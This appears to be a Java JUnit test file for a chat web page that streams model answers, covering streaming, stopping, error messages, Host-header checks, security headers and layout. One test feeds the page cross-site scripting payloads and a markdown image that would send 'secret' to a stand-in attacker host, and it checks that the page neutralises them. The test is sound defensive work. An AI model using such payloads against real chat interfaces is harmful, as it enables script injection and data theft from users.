package io.github.camelopenai.examples.chatweb;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.github.camelopenai.examples.common.Program;
import io.github.camelopenai.testsupport.Answers;
import io.github.camelopenai.testsupport.Events;
import io.github.camelopenai.testsupport.RawServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import picocli.CommandLine;

class ChatWebTest {

    @Test
    void tokensAppearOneAfterTheOther() throws Exception {
        CountDownLatch firstSeen = new CountDownLatch(1);
        try (RawServer model = new RawServer(socket -> {
                    begin(socket, new Events().chat("Hel"));
                    assertThat(firstSeen.await(20, TimeUnit.SECONDS)).isTrue();
                    send(socket, new Events().chat("lo").finish("stop").done());
                });
                Page page = new Page("--base-url", model.baseUrl());
                Browser browser = Browser.open(page.url())) {
            browser.ask("Say hello");

            await().until(() -> browser.messages("assistant").equals(List.of("Hel")));
            assertThat(browser.messages("user")).containsExactly("Say hello");
            assertThat(browser.isShown("stop")).isTrue();
            firstSeen.countDown();

            await().until(() -> browser.messages("assistant").equals(List.of("Hello")));
            await().until(() -> browser.isShown("send"));
            assertThat(browser.messages("error")).isEmpty();
        }
    }

    @Test
    void stopEndsTheCallToTheModel() throws Exception {
        try (RawServer model = new RawServer(socket -> {
                    begin(socket, new Events());
                    while (true) {
                        send(socket, new Events().chat("x"));
                        TimeUnit.MILLISECONDS.sleep(20);
                    }
                });
                Page page = new Page("--base-url", model.baseUrl());
                Browser browser = Browser.open(page.url())) {
            browser.ask("Go on");
            await().until(() -> browser.messages("assistant").get(0).contains("xxx"));
            assertThat(model.openConnections()).isEqualTo(1);

            browser.stop();

            await().until(() -> model.openConnections() == 0);
            assertThat(browser.messages("error")).isEmpty();
            assertThat(browser.isShown("send")).isTrue();
            assertThat(browser.messages("assistant").get(0)).startsWith("xxx").endsWith("You stopped this answer.");
        }
    }

    @Test
    void aServerThatFailsShowsASentenceAndAnIdAndNothingForOperators() throws Exception {
        String body = Answers.error("The model is on holiday", "server_error", "overloaded");
        try (RawServer model = new RawServer(RawServer.response("503 Busy", "application/json", body));
                Page page = new Page("--base-url", model.baseUrl());
                Browser browser = Browser.open(page.url())) {
            browser.ask("Hello?");

            await().until(() -> !browser.messages("error").isEmpty());
            assertThat(browser.messages("error").get(0))
                    .matches("The model cannot answer now\\. Try again later\\. \\([0-9a-f]{8}\\)");
            assertThat(browser.messages("assistant")).isEmpty();
            assertThat(browser.isShown("send")).isTrue();
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "503 Busy        | overloaded              | The model cannot answer now. Try again later.",
                "429 Too Many    | rate_limit_exceeded     | The model is busy. Try again in a minute.",
                "400 Bad Request | context_length_exceeded | The conversation has become too long. Reload the page to begin a new one.",
                "401 Unauthorized | invalid_api_key        | The model cannot answer now. Try again later.",
            })
    void whyTheModelFailedStaysInTheLog(String status, String code, String sentence) throws Exception {
        String body = Answers.error("internal words", "error", code);
        try (RawServer model = new RawServer(RawServer.response(status, "application/json", body));
                Page page = new Page("--base-url", model.baseUrl())) {
            HttpResponse<String> answer = page.post("application/json", "[{\"role\":\"user\",\"content\":\"a\"}]");

            assertThat(answer.statusCode()).isEqualTo(502);
            assertThat(answer.body()).contains(sentence).doesNotContain("internal words", "http://", "apiKey");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "localhost, 200",
        "127.0.0.1:8080, 200",
        "chat.example.com, 200",
        "evil.example.com, 421",
        "127.0.0.1.evil.com, 421"
    })
    void aNameThatIsNotItsOwnIsRefused(String host, int status) throws Exception {
        try (Page page = new Page("--allow-host", "chat.example.com")) {
            assertThat(page.statusFor("GET / HTTP/1.1", host)).isEqualTo(status);
            assertThat(page.statusFor("GET /assets/page.js HTTP/1.1", host)).isEqualTo(status);
            assertThat(page.statusFor("POST /chat HTTP/1.1", host)).isEqualTo(status == 200 ? 400 : status);
        }
    }

    @Test
    void noScriptOrStyleInThePageRunsAndNoOtherPageMayFrameIt() throws Exception {
        try (Page page = new Page()) {
            HttpResponse<String> answer = page.get("");

            assertThat(answer.headers().firstValue("Content-Security-Policy").orElseThrow())
                    .contains("default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'")
                    .doesNotContain("unsafe-inline");
            assertThat(answer.body()).doesNotContain("<style", "onclick").doesNotContainPattern("<script>");
            assertThat(page.get("assets/marked.js").body()).contains("marked");
            assertThat(page.get("assets/purify.js").body()).contains("DOMPurify");
            assertThat(page.get("assets/page.css").statusCode()).isEqualTo(200);
            assertThat(page.get("assets/../index.html").statusCode()).isEqualTo(404);
            assertThat(page.get("nothing").statusCode()).isEqualTo(404);
        }
    }

    @Test
    void markdownIsShownAsWhatItMeans() throws Exception {
        String markdown =
                "# Title\n\nSome **bold** text, a [link](https://example.com/) and\n\n```\ncode\n```\n\n- one\n- two\n";
        try (RawServer model = new RawServer(socket ->
                        begin(socket, new Events().chat(markdown).finish("stop").done()));
                Page page = new Page("--base-url", model.baseUrl());
                Browser browser = Browser.open(page.url())) {
            browser.ask("Say something");

            await().until(() -> browser.isShown("send"));
            String answer = "document.querySelector('.assistant ";
            assertThat(browser.evaluate(answer + "h1').textContent")).isEqualTo("Title");
            assertThat(browser.evaluate(answer + "strong').textContent")).isEqualTo("bold");
            assertThat(browser.evaluate(answer + "pre code').textContent")).isEqualTo("code\n");
            assertThat(browser.evaluate(answer + "a').rel")).isEqualTo("noopener noreferrer");
            assertThat(browser.evaluate("document.querySelectorAll('.assistant li').length"))
                    .isEqualTo(2L);
        }
    }

    @Test
    void anAnswerThatBreaksOffIsSaidToHaveBrokenOff() throws Exception {
        try (RawServer model = new RawServer(socket -> begin(socket, new Events().chat("Hel")));
                Page page = new Page("--base-url", model.baseUrl());
                Browser browser = Browser.open(page.url())) {
            browser.ask("Hello?");

            await().until(() -> browser.messages("error").equals(List.of("The answer broke off.")));
            assertThat(browser.messages("assistant")).containsExactly("Hel\nThis answer is not whole.");
        }
    }

    @Test
    void whatAModelWritesCanDoNoHarm() throws Exception {
        String attack = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
                + "<a href=\"javascript:document.title='owned'\">click</a><form action=\"https://evil.example\"><input></form>"
                + "<svg><style>*{display:none}</style></svg> ![x](https://evil.example/?q=secret) rest";
        try (RawServer model = new RawServer(socket ->
                        begin(socket, new Events().chat(attack).finish("stop").done()));
                Page page = new Page("--base-url", model.baseUrl());
                Browser browser = Browser.open(page.url())) {
            browser.ask("<b>hi</b>");

            await().until(() -> browser.isShown("send")
                    && browser.messages("assistant").stream().anyMatch(text -> text.contains("rest")));
            assertThat(browser.messages("user")).containsExactly("<b>hi</b>");
            assertThat(
                            browser.evaluate(
                                    "document.querySelectorAll('#messages img, #messages b, #messages script,"
                                            + " #messages form, #messages input, #messages style, #messages svg, #messages [href^=javascript]').length"))
                    .isEqualTo(0L);
            assertThat(browser.evaluate("document.title")).isEqualTo("Chat");
        }
    }

    @ParameterizedTest
    @CsvSource({"--force-dark-mode, true", "--lang=en, false"})
    void thePageFitsAPhoneDarkAndLight(String option, boolean dark) throws Exception {
        try (RawServer model = new RawServer(socket -> begin(
                        socket,
                        new Events()
                                .chat("long ".repeat(200) + "x".repeat(300))
                                .finish("stop")
                                .done()));
                Page page = new Page("--base-url", model.baseUrl());
                Browser browser = Browser.open(page.url(), option)) {
            browser.resize(360, 640);
            browser.ask("Write a lot");
            await().until(() -> browser.isShown("send"));

            assertThat(browser.evaluate("document.documentElement.scrollWidth <= window.innerWidth"))
                    .isEqualTo(true);
            assertThat(browser.evaluate("document.getElementById('send').getBoundingClientRect().bottom"
                            + " <= window.innerHeight"))
                    .isEqualTo(true);
            assertThat(browser.evaluate("matchMedia('(prefers-color-scheme: dark)').matches"))
                    .isEqualTo(dark);
            assertThat(browser.evaluate("getComputedStyle(document.body).backgroundColor"))
                    .isEqualTo(dark ? "rgb(20, 23, 29)" : "rgb(246, 245, 242)");
        }
    }

    @Test
    void theWholeConversationIsSent() throws Exception {
        List<String> bodies = new ArrayList<>();
        try (Page page = new Page()) {
            HttpResponse<String> answer = page.post(
                    "application/json",
                    "[{\"role\":\"user\",\"content\":\"a\"},{\"role\":\"assistant\",\"content\":\"b\"},"
                            + "{\"role\":\"user\",\"content\":\"How are you?\"}]");
            bodies.add(answer.body());

            assertThat(answer.statusCode()).isEqualTo(200);
            assertThat(bodies.get(0)).contains("Simulated ").contains("you?").endsWith("data: [DONE]\n\n");
            assertThat(page.screen()).startsWith("Answers are simulated by a stand-in on http://");
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "text/plain       | [{\"role\":\"user\",\"content\":\"a\"}]",
                "application/json | {\"model\":\"expensive\",\"messages\":[{\"role\":\"user\",\"content\":\"a\"}]}",
            })
    void onlyMessagesAreTakenAndOnlyAsJson(String contentType, String body) throws Exception {
        try (Page page = new Page()) {
            HttpResponse<String> answer = page.post(contentType, body);

            assertThat(answer.statusCode()).isEqualTo(400);
            assertThat(answer.body()).contains("A list of messages is taken, as application/json.");
        }
    }

    @Test
    void everyOptionOfTheProgramIsInItsReadme() throws Exception {
        String readme = Files.readString(Path.of("README.md"));

        assertThat(new CommandLine(new ChatWeb(Map.of(), System.out, new CountDownLatch(1)))
                        .getCommandSpec()
                        .options())
                .extracting(option -> option.longestName())
                .filteredOn(name -> !name.equals("--help") && !name.equals("--version"))
                .hasSize(5)
                .allSatisfy(name -> assertThat(readme).contains("| `" + name + "` |"));
    }

    private static void begin(Socket socket, Events events) throws IOException {
        String head = "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n";
        socket.getOutputStream().write((head + events).getBytes(StandardCharsets.UTF_8));
    }

    private static void send(Socket socket, Events events) throws IOException {
        socket.getOutputStream().write(events.toString().getBytes(StandardCharsets.UTF_8));
    }

    /** A run of the program. */
    private static final class Page implements AutoCloseable {

        private final int port;
        private final ByteArrayOutputStream screen = new ByteArrayOutputStream();
        private final CountDownLatch end = new CountDownLatch(1);
        private final CompletableFuture<Integer> run;

        Page(String... more) throws IOException {
            try (ServerSocket free = new ServerSocket(0)) {
                port = free.getLocalPort();
            }
            List<String> arguments = new ArrayList<>(List.of("--port", String.valueOf(port)));
            arguments.addAll(List.of(more));
            PrintStream out = new PrintStream(screen, true, StandardCharsets.UTF_8);
            // On a thread of its own: the program blocks it, and the common pool may have no other for the browser's
            // driver
            run = CompletableFuture.supplyAsync(
                    () -> Program.run(new ChatWeb(Map.of(), out, end), out, arguments.toArray(String[]::new)),
                    program -> new Thread(program, "chat-web").start());
            await().until(() -> screen().contains("Open " + url() + " in a browser"));
        }

        String url() {
            return "http://127.0.0.1:" + port + "/";
        }

        String screen() {
            return screen.toString(StandardCharsets.UTF_8);
        }

        HttpResponse<String> post(String contentType, String body) throws Exception {
            return HttpClient.newHttpClient()
                    .send(
                            HttpRequest.newBuilder(URI.create(url() + "chat"))
                                    .header("Content-Type", contentType)
                                    .POST(HttpRequest.BodyPublishers.ofString(body))
                                    .build(),
                            HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<String> get(String path) throws Exception {
            return HttpClient.newHttpClient()
                    .send(
                            HttpRequest.newBuilder(URI.create(url() + path)).build(),
                            HttpResponse.BodyHandlers.ofString());
        }

        /** The status of a request with a header Host of its own, which Java's client does not send. */
        int statusFor(String requestLine, String host) throws IOException {
            try (Socket socket = new Socket("127.0.0.1", port)) {
                String head = requestLine + "\r\nHost: " + host + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
                socket.getOutputStream().write(head.getBytes(StandardCharsets.UTF_8));
                String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
                return Integer.parseInt(answer.split(" ")[1]);
            }
        }

        @Override
        public void close() {
            end.countDown();
            assertThat(run.orTimeout(30, TimeUnit.SECONDS).join()).isZero();
        }
    }
}
